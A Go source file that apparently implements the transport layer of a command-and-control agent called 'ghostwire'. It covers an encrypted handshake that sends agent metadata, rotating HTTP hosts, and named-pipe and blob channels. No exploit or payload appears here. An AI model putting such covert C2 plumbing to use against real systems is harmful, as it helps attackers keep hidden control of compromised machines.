package transport

import (
	"context"
	"encoding/binary"
	"fmt"

	"github.com/rs/zerolog/log"

	"ghostwire/pkg/cipher"
	"ghostwire/pkg/config"
	"ghostwire/pkg/hostpool"
	"ghostwire/pkg/proxy"
)

// Transport is the carrier-agnostic entry point. It owns the carrier,
// the host pool and the envelope cipher, and is constructed once at
// startup and passed to every operation; there is no process-wide
// instance state.
type Transport struct {
	carrier Carrier
	cipher  Cipher
	kind    string
	agentID uint32

	// pool is nil for carriers without destination rotation.
	pool *hostpool.Pool

	connected bool
}

// New builds the transport context for the configured carrier.
func New(cfg *config.Config) (*Transport, error) {
	stream, err := cipher.New(cfg.Key, cfg.IV)
	if err != nil {
		return nil, err
	}

	t := &Transport{
		cipher:  stream,
		kind:    cfg.Carrier,
		agentID: cfg.AgentID,
	}

	switch cfg.Carrier {
	case config.CarrierHTTP:
		pool := hostpool.New(cfg.HTTP.Rotation, cfg.HTTP.MaxRetries, RandomUint32)
		for _, h := range cfg.HTTP.Hosts {
			pool.Add(h.Host, h.Port)
		}

		carrier, err := NewHTTPCarrier(&cfg.HTTP, pool, proxy.NewResolver(), NewTokenGuard(), RandomUint32)
		if err != nil {
			return nil, err
		}

		// Establish the initial active host.
		pool.Rotate(cfg.HTTP.Rotation)

		t.pool = pool
		t.carrier = carrier

	case config.CarrierPipe:
		t.carrier = NewPipeCarrier(cfg.Pipe.Name, cfg.AgentID)

	case config.CarrierBlob:
		carrier, err := NewBlobCarrier(&cfg.Blob)
		if err != nil {
			return nil, err
		}
		t.carrier = carrier

	default:
		return nil, fmt.Errorf("carrier: unknown %q", cfg.Carrier)
	}

	return t, nil
}

// Init performs the bootstrap handshake. hello is the serialized agent
// metadata produced by the caller; it is encrypted in place. For the
// HTTP carrier the decrypted reply must open with this agent's own
// identifier; for the other carriers a successful first send suffices.
func (t *Transport) Init(ctx context.Context, hello []byte) bool {
	if err := t.cipher.Apply(hello); err != nil {
		return false
	}

	resp, code := t.carrier.Send(ctx, hello)
	if code != ErrNone {
		return false
	}

	if t.kind == config.CarrierHTTP {
		if err := t.cipher.Apply(resp); err != nil {
			return false
		}
		if len(resp) < frameIDSize || binary.LittleEndian.Uint32(resp[:frameIDSize]) != t.agentID {
			log.Debug().Msg("handshake reply does not carry our identifier")
			return false
		}
	}

	t.connected = true
	return true
}

// Send encrypts data in place and hands it to the carrier. wantResp
// controls whether a response body is returned to the caller; a declined
// response is dropped. One-way carriers return a nil payload and deliver
// inbound traffic through Recv.
func (t *Transport) Send(ctx context.Context, data []byte, wantResp bool) ([]byte, byte) {
	if err := t.cipher.Apply(data); err != nil {
		return nil, ErrTransportError
	}

	resp, code := t.carrier.Send(ctx, data)
	if code != ErrNone {
		return nil, code
	}

	if !wantResp || resp == nil {
		return nil, ErrNone
	}

	if err := t.cipher.Apply(resp); err != nil {
		return nil, ErrTransportError
	}

	return resp, ErrNone
}

// Recv retrieves one already-arrived message, decrypted in place.
// ErrNoData means nothing complete has arrived and is distinct from a
// failure.
func (t *Transport) Recv(ctx context.Context) ([]byte, byte) {
	data, code := t.carrier.Recv(ctx)
	if code != ErrNone {
		return nil, code
	}

	if err := t.cipher.Apply(data); err != nil {
		return nil, ErrTransportError
	}

	return data, ErrNone
}

// Checkup reports whether the transport still has a way forward: at
// least one alive host for rotating carriers, otherwise a live session.
// A false result with a finite retry budget means the caller should give
// up; that decision belongs to the caller, not the transport.
func (t *Transport) Checkup() bool {
	if t.pool != nil {
		return t.pool.Checkup()
	}

	return t.carrier.Connected()
}

// Connected reports whether the bootstrap handshake succeeded and the
// carrier still considers its session live.
func (t *Transport) Connected() bool {
	return t.connected && t.carrier.Connected()
}

// Pool exposes the host pool for rotating carriers, nil otherwise.
func (t *Transport) Pool() *hostpool.Pool {
	return t.pool
}

// Close releases the carrier session and handles.
func (t *Transport) Close() {
	t.carrier.Close()
	t.connected = false
}
